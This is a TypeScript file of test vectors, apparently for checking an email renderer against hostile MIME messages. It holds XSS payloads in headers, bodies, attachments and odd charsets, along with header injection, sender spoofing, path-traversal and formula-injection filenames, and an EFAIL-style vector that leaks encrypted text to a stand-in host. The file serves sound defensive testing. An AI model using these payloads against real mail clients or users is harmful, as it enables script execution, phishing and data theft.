import type { Vector } from './vector.ts'

const MARKUP = '<img src=x onerror=RUN>"\'><script>RUN</script>'
const plain = 'MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\nVisible words.\n'
const mixed = (...parts: readonly string[]): string => `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nVisible words.\n${parts.map((part) => `--b\n${part}\n`).join('')}--b--\n`
const file = (type: string, content: string, name = 'file'): string => `Content-Type: ${type}; name="${name}"\nContent-Disposition: attachment; filename="${name}"\n\n${content}`
const encoded = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`

/** S1, S6, D6: markup, controls and lies in what stands around the body. */
export const HEADERS: readonly Vector[] = [
  ['subject with markup', `Subject: ${MARKUP}\nFrom: a@example.test\n${plain}`],
  ['subject with encoded markup', `Subject: ${encoded(MARKUP)}\nFrom: a@example.test\n${plain}`],
  ['subject with ends of elements', `Subject: </title></textarea></option></select></script></style></noscript>--><script>RUN</script>\nFrom: </title><script>RUN</script> <a@example.test>\n${plain}`],
  ['subject with line breaks inside', `Subject: ${encoded('one\r\nBcc: x@example.test\r\n\r\n<script>RUN</script>')}\nFrom: a@example.test\n${plain}`],
  ['subject with controls', `Subject: ${encoded('a\u0000b\u0007c\u001b[31md\u009be\u2028f')}\nFrom: a@example.test\n${plain}`],
  ['subject that turns round', `Subject: ${encoded('\u202egpj.exe \u2066x\u2069 \u200f')}\nFrom: a@example.test\n${plain}`],
  ['subject of a hundred thousand letters', `Subject: ${'long '.repeat(20_000)}\nFrom: a@example.test\n${plain}`],
  ['subject of combining marks', `Subject: ${encoded(`z${'\u0335\u0489'.repeat(3_000)}`)}\nFrom: a@example.test\n${plain}`],
  ['name with markup', `Subject: x\nFrom: "${MARKUP.replaceAll('"', '\\"')}" <a@example.test>\nTo: ${encoded(MARKUP)} <b@example.test>\n${plain}`],
  ['address with markup', `Subject: x\nFrom: <"<script>RUN</script>"@example.test>\nReply-To: <"onload=RUN"@x>\n${plain}`],
  ['name that is an address', `Subject: x\nFrom: "boss@bank.test" <mallory@evil.test>\n${plain}`],
  ['name that is an address in brackets', `Subject: x\nFrom: <boss@bank.test> <mallory@evil.test>\nSender: boss@bank.test <mallory@evil.test>\nReply-To: boss@bank.test,, <mallory@evil.test>\n${plain}`],
  ['name full of blanks before the address', `Subject: x\nFrom: "boss@bank.test${' '.repeat(500)}" <mallory@evil.test>\n${plain}`],
  ['name that turns round', `Subject: x\nFrom: ${encoded('\u202etset.knab@ssob')} <mallory@evil.test>\n${plain}`],
  ['a thousand senders', `Subject: x\nFrom: ${Array.from({ length: 1000 }, (_, at) => `s${at}@example.test`).join(',\n ')}\n${plain}`],
  ['two From fields', `Subject: x\nFrom: boss@bank.test\nFrom: mallory@evil.test\n${plain}`],
  ['group without end', `Subject: x\nFrom: friends: a@b.test, c@d.test\nTo: undisclosed-recipients:;\n${plain}`],
  ['no header at all', '\nVisible words.\n'],
  ['date that is none', `Subject: x\nDate: <script>RUN</script>\nFrom: a@example.test\n${plain}`],
  ['date beyond all years', `Subject: x\nDate: Sat, 99 Foo 275761 99:99:99 +9999\nFrom: a@example.test\n${plain}`],
  ['every field with markup', `Subject: x\nMessage-ID: <${MARKUP}>\nX-Mailer: ${MARKUP}\nList-Unsubscribe: <javascript:RUN>, <CANARY/list>\nList-Post: <javascript:RUN>\nX-Face: ${MARKUP}\nFace: iVBOR\nX-Image-URL: CANARY/face\nReceived: ${MARKUP}\nOrganization: ${MARKUP}\n${plain}`],
  ['field names with markup', `Subject: x\nX-<script>RUN</script>: a\n<img-src=x>: b\n${plain}`],
  ['content type with markup', `Subject: x\nContent-Type: text/html"><script>RUN</script>; charset="<script>RUN</script>"\n\n<script>RUN</script>Visible words.`],
  ['receipt and avatars asked for', `Subject: x\nDisposition-Notification-To: <a@canary.test>\nReturn-Receipt-To: a@canary.test\nBIMI-Location: v=BIMI1; l=CANARY/logo.svg\nAvatar: CANARY/avatar\nFrom: a@canary.test\n${plain}`],
  ['external body', `Subject: x\nContent-Type: message/external-body; access-type=URL; URL="CANARY/external"\n\nContent-Type: text/html\n\n<script>RUN</script>`],
  ['Content-Base and Content-Location', 'Subject: x\nContent-Type: text/html\nContent-Base: CANARY/\nContent-Location: CANARY/x\n\n<img src="relative.png">Visible words.'],
  ['link and refresh as headers', `Subject: x\nLink: <CANARY/link>; rel=stylesheet\nRefresh: 0; url=CANARY/refresh\nContent-Security-Policy: default-src *\nAccess-Control-Allow-Origin: *\n${plain}`],
]

/** S1: words that look like markup, in text that is none. */
export const TEXTS: readonly Vector[] = [
  ['plain text with markup', `Subject: x\n${plain}${MARKUP}\n<a href="javascript:RUN">x</a>`],
  ['plain text with links of all sorts', `Subject: x\n${plain}javascript:RUN data:text/html,<script>RUN</script> http://example.test/"onmouseover="RUN http://user:pw@evil.test/ https://[::1]/ http://x.test/<script>RUN</script> www.x.test/&quot;onload=RUN`],
  ['plain text with link references', `Subject: x\n${plain}[<script>RUN</script>] [1]: javascript:RUN ##str_replacement_0## ${'\u0001'}0${'\u0001'}\nmailto:x@y.test?subject=<img src=x onerror=RUN>`],
  ['plain text with the marks of a filter', `Subject: x\n${plain}http://x.test/\u0000\u0000\u0000${Buffer.from('<img src=x onerror=RUN>').toString('base64')}\u0000\u0000\u0000 \u0002\u0003{{0}} %%LINK0%% __LINK_0__ <a href="[[0]]">`],
  ['plain text quoted ten thousand deep', `Subject: x\n${plain}${'>'.repeat(10_000)} deep\n${'> '.repeat(2_000)}deep`],
  ['plain text of one long line', `Subject: x\n${plain}${'wide'.repeat(100_000)}`],
  ['plain text of links alone', `Subject: x\n${plain}${'http://a.test/(((('.repeat(3_000)}`],
  ['plain text with controls', `Subject: x\n${plain}a\u0000b\u001b]0;x\u0007\u009b31m\u202eevil\u2028\u2029\ufffe\ud800`],
  ['flowed text with markup', `Subject: x\nMIME-Version: 1.0\nContent-Type: text/plain; format=flowed; delsp=yes\n\nVisible words. <scr \nipt>RUN</scr \nipt>`],
  ['enriched text', `Subject: x\nMIME-Version: 1.0\nContent-Type: text/enriched\n\n<bold>Visible words.</bold><<script>RUN</script><param><img src=x onerror=RUN></param>`],
  ['text that is XHTML', `Subject: x\nMIME-Version: 1.0\nContent-Type: application/xhtml+xml\n\n<html xmlns="http://www.w3.org/1999/xhtml"><body onload="RUN"><script>RUN</script>Visible words.</body></html>`],
  ['text that is SVG', `Subject: x\nMIME-Version: 1.0\nContent-Type: image/svg+xml\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><image href="CANARY/x"/></svg>`],
  ['text that is a watch document', `Subject: x\nMIME-Version: 1.0\nContent-Type: text/x-amp-html\n\n<html amp4email><script async src="CANARY/amp.js"></script><amp-img src="CANARY/amp"></amp-img>`],
  ['calendar with HTML', `Subject: x\n${mixed(file('text/calendar; method=REQUEST', 'BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:<script>RUN</script>\nX-ALT-DESC;FMTTYPE=text/html:<img src=x onerror=RUN>\nURL:javascript:RUN\nATTACH:CANARY/ics\nEND:VEVENT\nEND:VCALENDAR'))}`],
  ['card with HTML', `Subject: x\n${mixed(file('text/vcard', 'BEGIN:VCARD\nVERSION:3.0\nFN:<script>RUN</script>\nPHOTO;VALUE=uri:CANARY/photo\nURL:javascript:RUN\nEND:VCARD'))}`],
]

/** S5, D5: attachments that would be pages, and names that would be more than names. */
export const FILES: readonly Vector[] = [
  ...['text/html', 'image/svg+xml', 'application/xhtml+xml', 'text/xml', 'application/javascript', 'text/javascript', 'application/pdf', 'application/x-shockwave-flash', 'text/css', 'multipart/x-mixed-replace', 'text/plain', 'image/png', 'image/gif', 'audio/mpeg', 'video/mp4', 'application/octet-stream', 'message/rfc822', 'message/partial', 'application/x-java-jnlp-file', 'text/html; charset=utf-7'].map(
    (type): Vector => [`file of ${type}`, `Subject: x\n${mixed(file(type, '<html><svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><script>RUN</script><img src="CANARY/file" onerror="RUN"></svg>'))}`],
  ),
  ...['../../../../etc/passwd', '..\\..\\boot.ini', 'C:\\x.exe', 'a\u202egpj.exe', 'a.jpg                                        .exe', 'con', 'x.html%00.png', '<script>RUN</script>.png', '</option></title><script>RUN</script>', '" onmouseover="RUN', 'a;b=c,d', '.htaccess', `${'n'.repeat(5000)}.png`, 'x.tar.gz:ads', '=cmd|calc', ' ', '\u0000'].map(
    (name): Vector => [`file called ${name.slice(0, 20)}`, `Subject: x\n${mixed(file('image/png', 'not a picture', name))}`],
  ),
  ['file with names in all forms', `Subject: x\n${mixed(`Content-Type: text/plain; name="a.txt"; name*=utf-8''%3Cscript%3ERUN%3C/script%3E\nContent-Disposition: attachment; filename*0="../"; filename*1*=%0d%0aX; filename=b.txt\n\nx`)}`],
  ['file with a broken type', `Subject: x\n${mixed('Content-Type: <script>RUN</script>/"><img src=x onerror=RUN>\nContent-Disposition: "<script>RUN</script>"\n\nx')}`],
  ['file whose Content-ID is markup', `Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src='cid:"><script>RUN</script>'>Visible words.<img src="cid:svg@x">\n--b\nContent-Type: image/svg+xml\nContent-ID: <svg@x>\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>\n--b--\n`],
  ['picture that is a page, as cid', `Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\nVisible words.<img src="cid:p@x">\n--b\nContent-Type: image/png\nContent-ID: <p@x>\n\n<html><script>RUN</script><img src="CANARY/cidpage">\n--b--\n`],
]

const withCharset = (charset: string, octets: string): string => `Subject: x\nMIME-Version: 1.0\nContent-Type: text/html; charset=${charset}\nContent-Transfer-Encoding: base64\n\n${Buffer.from(octets, 'latin1').toString('base64')}`

/** S1, S7: charsets and encodings in which the same octets say two things, and structures that fall apart. Texts are octets. */
export const ENCODINGS: readonly Vector[] = [
  ['utf-7', withCharset('utf-7', '+ADw-script+AD4-RUN+ADw-/script+AD4-Visible words.')],
  ['utf-7, not said', withCharset('us-ascii', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-Visible words.')],
  ['utf-16 without a mark', withCharset('utf-16', '\0<\0s\0c\0r\0i\0p\0t\0>\0a\0l\0e\0r\0t\0(\x001\0)\0<\0/\0s\0c\0r\0i\0p\0t\0>\0V')],
  ['utf-32', withCharset('utf-32', '\0\0\0<\0\0\0s\0\0\0>')],
  ['utf-8 overlong', withCharset('utf-8', '\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbeVisible words.')],
  ['utf-8 cut', withCharset('utf-8', '<img alt="\xe2" src=x onerror=RUN " \xf0\x9f>Visible words.')],
  ['shift_jis eats a quote', withCharset('shift_jis', '<img alt="\x83" src="\x81" onerror="RUN" x="\x81">Visible words.')],
  ['gbk eats a quote', withCharset('gbk', '<img alt="\x81" src="x" title="\x81" onerror="RUN">Visible words.')],
  ['big5 eats a backslash', withCharset('big5', '<p title="\xa5\x5c" onmouseover="RUN">Visible words.')],
  ['iso-2022-jp shifts', withCharset('iso-2022-jp', '<img alt="\x1b$B" src=x onerror=RUN "\x1b(B">Visible words.')],
  ['iso-2022-kr and hz', withCharset('hz-gb-2312', '<p>~{<:Ky2;VF#,NpJ)l6HK!#~}</p><img alt="~{" onerror=RUN "~}">Visible words.')],
  ['ebcdic', withCharset('ibm037', 'Lsesn')],
  ['x-user-defined and replacement', withCharset('x-user-defined', '\xbcscript\xbeRUN\xbc/script\xbe Visible words.')],
  ['charset that is none', withCharset('"><script>RUN</script>', '<script>RUN</script>Visible words.')],
  ['charset of the document against that of the part', withCharset('utf-8', '<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-Visible words.')],
  ['byte order mark against the charset', withCharset('iso-8859-1', '\xff\xfe<\0i\0m\0g\0 \0s\0r\0c\0=\0x\0>\0')],
  ['base64 that breaks off in markup', `Subject: x\nMIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\n${Buffer.from('Visible words.<img src=x onerror=RUN').toString('base64').slice(0, -3)}!!!==**`],
  ['quoted-printable with soft breaks in tags', 'Subject: x\nMIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\nVisible words.<scr=\nipt>RUN</scr=\nipt><img src=3Dx onerror=3DRUN =ZZ=>'],
  ['encoding twice', 'Subject: x\nMIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: base64\nContent-Transfer-Encoding: 8bit\n\n<script>RUN</script>Visible words.'],
  ['encoding that is none', 'Subject: x\nMIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: rot13\n\nVisible words.<script>RUN</script>'],
  ['boundary that is a prefix of another', 'Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: multipart/mixed; boundary=bb\n\n--bb\nContent-Type: text/html\n\n<script>RUN</script>Visible words.\n--bb--\n--b--'],
  ['boundary that is missing', 'Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed\n\n--b\nContent-Type: text/html\n\n<script>RUN</script>Visible words.\n--b--'],
  ['boundary that is empty', 'Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=""\n\n--\nContent-Type: text/html\n\n<script>RUN</script>Visible words.\n----'],
  ['boundary with markup', 'Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="<script>RUN</script>"\n\n--<script>RUN</script>\n\nVisible words.\n--<script>RUN</script>--'],
  ['Content-Type twice', 'Subject: x\nMIME-Version: 1.0\nContent-Type: text/plain\nContent-Type: text/html\n\n<script>RUN</script>Visible words.'],
  ['alternatives that say different things', `Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain\n\nVisible words.\n--b\nContent-Type: text/html\n\n<script>RUN</script>Visible words.<img src="CANARY/alternative">\n--b\nContent-Type: text/x-amp-html\n\n<script>RUN</script>\n--b--`],
  ['a part of an encrypted message that leaks', `Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\nVisible words.<img src="CANARY/leak?\n--b\nContent-Type: text/plain\n\n-----BEGIN PGP MESSAGE-----\n\nsecret\n-----END PGP MESSAGE-----\n--b\nContent-Type: text/html\n\n"><p>x</p>\n--b--`],
]
